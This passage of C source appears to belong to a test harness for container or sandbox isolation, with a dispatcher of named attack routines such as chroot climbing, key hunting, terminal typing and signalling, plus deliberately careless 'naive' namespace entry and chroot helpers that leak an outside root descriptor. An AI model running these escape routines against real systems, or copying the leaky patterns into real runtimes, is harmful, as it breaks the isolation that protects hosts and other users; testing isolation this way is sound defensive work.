  struct stat stat_;
  fstat(again, &stat_);
  if (!S_ISREG(stat_.st_mode)) {
    errno = 0;
    return refused("descriptor %d is no file", fd);
  }
  return pwrite(again, "escaped\n", 8, 0) == 8 ? worked("wrote to descriptor %d", fd) : refused("write");
}

static int hard_link(const char *from, const char *to) {
  if (linkat(AT_FDCWD, from, AT_FDCWD, to, 0) == 0) return worked("linked %s to %s", from, to);
  remember();
  char path[64];
  int fd = open(from, O_RDONLY | O_CLOEXEC);
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  if (fd >= 0 && linkat(AT_FDCWD, path, AT_FDCWD, to, AT_SYMLINK_FOLLOW) == 0) return worked("linked %s to %s", path, to);
  errno = first_errno;
  return refused("link %s", from);
}

static int take_descriptors(void) {
  unsigned count = 0;
  while (dup(0) >= 0) count++;
  int error = errno;
  printf("holds %u\n", count);
  fflush(stdout);
  errno = error;
  pause();
  return 0;
}

/* ------------------------------------------------------------------------ what careless engines have done */

static void enter(pid_t pid, const char *name) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/ns/%s", pid, name);
  int fd = open(path, O_RDONLY);
  if (fd < 0 || setns(fd, 0) != 0) die(path);
  close(fd);
}

/* Enters with its own program, which those inside then see as /proc/<pid>/exe; and leaves them its descriptors. */
static int naive_enter(char **arguments) {
  pid_t pid = atoi(arguments[0]);
  open("/", O_RDONLY | O_DIRECTORY);
  enter(pid, "pid");
  enter(pid, "mnt");
  /* The capabilities of those inside, or they could not look at it: the default. */
  for (int capability = 0; capability < 64; capability++)
    if (!(0xa00405fbULL >> capability & 1)) prctl(PR_CAPBSET_DROP, capability, 0, 0, 0);
  pid_t child = fork();
  if (child == 0) {
    execv(arguments[1], arguments + 1);
    die(arguments[1]);
  }
  int status;
  waitpid(child, &status, 0);
  return WEXITSTATUS(status);
}

/* Changes its root with a directory of the outside open as descriptor 7, goes where it was told to, and starts a
 * program as it is: environment, descriptors, terminal. */
static int naive_chroot(char **arguments) {
  int outside = open("/", O_RDONLY | O_DIRECTORY);
  if (outside < 0 || dup2(outside, 7) < 0) die("open /");
  if (outside != 7) close(outside);
  if (chroot(arguments[0]) != 0) die(arguments[0]);
  if (chdir(arguments[1]) != 0) die(arguments[1]);
  execv(arguments[2], arguments + 2);
  die(arguments[2]);
  return 1;
}

/* A child that is only told to sleep: somebody to be attacked. */
static _Noreturn void victim(void) {
  signal(SIGUSR1, SIG_DFL);
  for (;;) pause();
}

int main(int count, char **arguments) {
  const char *what = count > 1 ? arguments[1] : "";
  char **rest = arguments + 2;
  count -= 2;
#define WORD(word, least, call) \
  if (strcmp(what, word) == 0 && count >= (least)) return call
  WORD("reach", 1, reach(rest[0], count > 1 ? atof(rest[1]) : 0));
  WORD("chroot-climb", 1, chroot_climb(rest[0]));
  WORD("hunt-programs", 1, hunt_programs(atof(rest[0])));
  if (strcmp(what, "kernel-file") == 0 && count >= 2) {
    for (int i = 1; i < count; i++) kernel_file(rest[0], rest[i]);
    return 0;
  }
  WORD("cgroups", 0, cgroups());
  WORD("binfmt", 0, binfmt());
  WORD("masks", 1, masks(count, rest));
  WORD("calls", 0, calls());
  WORD("socket-calls", 0, socket_calls());
  WORD("handle", 1, print_handle(rest[0]));
  WORD("by-handle", 2, by_handle(rest[0], rest[1]));
  WORD("outer", 2, outer(rest[0], atoi(rest[1])));
  WORD("signal-all", 1, signal_all(atoi(rest[0])));
  WORD("inherited", 1, inherited(rest[0]));
  WORD("find-key", 1, find_key(rest[0]));
  WORD("with-key", 2, with_key(rest));
  WORD("device", 0, device(count > 0 ? rest[0] : NULL));
  WORD("privileged", 0, privileged());
  WORD("inheritable", 0, inheritable());
  WORD("type-into", 1, type_into(rest[0]));
  WORD("console", 0, console());
  WORD("exchange", 3, (exchange(rest[0], rest[1], rest[2]), 0));
  WORD("wander", 3, (wander(rest[0], rest[1], rest[2]), 0));
  WORD("reopen", 1, reopen(atoi(rest[0])));
  WORD("hard-link", 2, hard_link(rest[0], rest[1]));
  WORD("take-descriptors", 0, take_descriptors());
  WORD("victim", 0, (victim(), 0));
  WORD("sleep", 0, (int)(sleep(1), 0));
  WORD("naive-enter", 2, naive_enter(rest));
  WORD("naive-chroot", 3, naive_chroot(rest));
  fprintf(stderr, "attacks: no such word: %s\n", what);
  return 98;
}
